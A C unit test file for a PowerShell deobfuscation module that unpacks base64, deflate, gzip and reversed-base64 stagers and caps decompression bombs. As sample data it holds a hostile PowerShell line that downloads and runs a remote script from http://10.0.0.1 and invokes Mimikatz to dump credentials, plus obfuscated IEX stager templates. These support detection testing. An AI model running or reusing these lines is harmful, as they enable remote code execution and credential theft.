/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <zlib.h>

#include "analysis/psinflate.h"

static const char script[] = "$c = New-Object Net.WebClient; $c.DownloadString('http://10.0.0.1/"
                             "a.ps1') | IEX; Invoke-Mimikatz -DumpCreds";

/* script as UTF-16LE, as PowerShell's -EncodedCommand and Out-File write it */
static void widen_script(uint8_t wide[2 * sizeof(script)])
{
        for (size_t i = 0; i < strlen(script); i++)
                wide[2 * i] = (uint8_t)script[i], wide[2 * i + 1] = 0;
}

static char *b64(const uint8_t *d, size_t n)
{
        static const char digits[] =
                "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        char *out = malloc(n / 3 * 4 + 5), *p = out;

        for (size_t i = 0; i < n; i += 3) {
                uint32_t v = (uint32_t)d[i] << 16 | (i + 1 < n ? (uint32_t)d[i + 1] << 8 : 0) |
                             (i + 2 < n ? d[i + 2] : 0);
                *p++ = digits[v >> 18 & 63];
                *p++ = digits[v >> 12 & 63];
                *p++ = i + 1 < n ? digits[v >> 6 & 63] : '=';
                *p++ = i + 2 < n ? digits[v & 63] : '=';
        }
        *p = '\0';
        return out;
}

/* The script compressed with window_bits (zlib's deflateInit2: -15 raw, 15 zlib, 31 gzip) and
 * written in base64. */
static char *compressed_b64(const uint8_t *d, size_t n, int window_bits)
{
        uint8_t out[4096];
        z_stream z = {0};

        assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
        z.next_in = (Bytef *)d;
        z.avail_in = (uInt)n;
        z.next_out = out;
        z.avail_out = sizeof(out);
        assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
        size_t m = sizeof(out) - z.avail_out;
        deflateEnd(&z);
        return b64(out, m);
}

static int inflate_stager(const char *stream, const char *payload, char **ret, size_t *ret_len)
{
        char text[8192];

        snprintf(text, sizeof(text),
                 "IEX (New-Object IO.StreamReader(New-Object IO.Compression.%s("
                 "[IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression."
                 "CompressionMode]::Decompress))).ReadToEnd()",
                 stream, payload);
        return psinflate_texts((const uint8_t *)text, strlen(text), ret, ret_len);
}

static void test_formats(void **state)
{
        const int windows[] = {-15, 15, 31};
        char *out = NULL;
        size_t len = 0;

        (void)state;
        for (size_t i = 0; i < 3; i++) {
                char *p = compressed_b64((const uint8_t *)script, strlen(script), windows[i]);
                assert_int_equal(
                        inflate_stager(i == 2 ? "GzipStream" : "DeflateStream", p, &out, &len), 1);
                assert_int_equal(len, strlen(script) + 1);
                assert_memory_equal(out, script, strlen(script));
                free(out);
                free(p);
        }
        /* UTF-16LE inside comes out single bytes */
        uint8_t wide[2 * sizeof(script)];
        widen_script(wide);
        char *p = compressed_b64(wide, 2 * strlen(script), -15);
        assert_int_equal(inflate_stager("DeflateStream", p, &out, &len), 1);
        assert_non_null(strstr(out, "Invoke-Mimikatz"));
        free(out);
        free(p);
}

static void test_nothing(void **state)
{
        char *out = (char *)"untouched";
        size_t len = 7;

        (void)state;
        /* compressed but no stream named: not read */
        char *p = compressed_b64((const uint8_t *)script, strlen(script), -15);
        assert_int_equal(psinflate_texts((const uint8_t *)p, strlen(p), &out, &len), 0);
        free(p);
        /* a stream named but binary inside, or base64 that is no deflate */
        uint8_t bin[600];
        for (size_t i = 0; i < sizeof(bin); i++)
                bin[i] = (uint8_t)(i * 2654435761u >> 13);
        p = compressed_b64(bin, sizeof(bin), 31);
        assert_int_equal(inflate_stager("GzipStream", p, &out, &len), 0);
        free(p);
        p = b64(bin, sizeof(bin));
        assert_int_equal(inflate_stager("DeflateStream", p, &out, &len), 0);
        free(p);
        assert_string_equal(out, "untouched");
        assert_int_equal(len, 7);
}

/* A script kept in base64 in a variable and decoded later by FromBase64String (UTF-8 or
 * UTF-16LE, as -EncodedCommand's), and a whole file of it */
static void test_plain(void **state)
{
        char text[4096], *out = NULL;
        size_t len = 0;

        (void)state;
        char *p = b64((const uint8_t *)script, strlen(script));
        snprintf(
                text, sizeof(text),
                "$s = '%s'\nIEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s)))",
                p);
        assert_int_equal(psinflate_texts((const uint8_t *)text, strlen(text), &out, &len), 1);
        assert_int_equal(len, strlen(script) + 1);
        assert_memory_equal(out, script, strlen(script));
        free(out);
        assert_int_equal(psinflate_texts((const uint8_t *)p, strlen(p), &out, &len), 1);
        assert_memory_equal(out, script, strlen(script));
        free(out);
        free(p);

        uint8_t wide[2 * sizeof(script)];
        widen_script(wide);
        p = b64(wide, 2 * strlen(script));
        snprintf(text, sizeof(text), "$e = \"%s\"; [Convert]::FromBase64String($e)", p);
        assert_int_equal(psinflate_texts((const uint8_t *)text, strlen(text), &out, &len), 1);
        assert_non_null(strstr(out, "Invoke-Mimikatz"));
        free(out);
        free(p);
}

/* Base64 written backwards, its padding first: decoded reversed, with or without a decoder
 * named, and inflated when the text names a stream */
static void test_reversed(void **state)
{
        char text[4096], padded[sizeof(script) + 2], *out = NULL;
        size_t len = 0;

        (void)state;
        /* a length that is no multiple of 3, so that the base64 ends with padding */
        snprintf(padded, sizeof(padded), "%s%s", script, strlen(script) % 3 ? "" : " ");
        char *p = b64((const uint8_t *)padded, strlen(padded));
        size_t n = strlen(p);
        assert_int_equal(p[n - 1], '=');
        for (size_t i = 0; i < n / 2; i++) {
                char c = p[i];
                p[i] = p[n - 1 - i];
                p[n - 1 - i] = c;
        }
        snprintf(text, sizeof(text), "$r = \"%s\"\n$c = $r[-1..-($r.Length)] -join ''", p);
        assert_int_equal(psinflate_texts((const uint8_t *)text, strlen(text), &out, &len), 1);
        assert_memory_equal(out, padded, strlen(padded));
        free(out);
        free(p);
}

/* Base64 of text where nothing decodes it, in a text that is more than the run: not read */
static void test_plain_needs_decoder(void **state)
{
        char text[4096], *out = (char *)"untouched";
        size_t len = 7;

        (void)state;
        char *p = b64((const uint8_t *)script, strlen(script));
        snprintf(text, sizeof(text),
                 "# a certificate's notes, a test vector, anything kept in base64 beside text\n"
                 "$s = '%s'\nWrite-Output $s.Length\n",
                 p);
        assert_int_equal(psinflate_texts((const uint8_t *)text, strlen(text), &out, &len), 0);
        assert_string_equal(out, "untouched");
        free(p);
}

/* A bomb stops at PSINFLATE_MAX_OUTPUT bytes a run. */
static void test_bounded(void **state)
{
        size_t n = 8u << 20;
        uint8_t *zeros = calloc(1, n);
        char *out = NULL, *text;
        size_t len = 0;

        (void)state;
        assert_non_null(zeros);
        memset(zeros, 'A', n);
        /* 8 MiB of one letter deflates to about 8 KiB */
        z_stream z = {0};
        uint8_t *c = malloc(64 * 1024);
        assert_non_null(c);
        assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY), Z_OK);
        z.next_in = zeros, z.avail_in = (uInt)n, z.next_out = c, z.avail_out = 64 * 1024;
        assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
        size_t m = 64 * 1024 - z.avail_out;
        deflateEnd(&z);
        char *p = b64(c, m);
        assert_true(asprintf(&text, "DeflateStream '%s'", p) > 0);
        assert_int_equal(psinflate_texts((const uint8_t *)text, strlen(text), &out, &len), 1);
        assert_int_equal(len, PSINFLATE_MAX_OUTPUT + 1);
        free(out);
        free(text);
        free(p);
        free(c);
        free(zeros);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_formats),  cmocka_unit_test(test_nothing),
                cmocka_unit_test(test_bounded),  cmocka_unit_test(test_plain),
                cmocka_unit_test(test_reversed), cmocka_unit_test(test_plain_needs_decoder),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
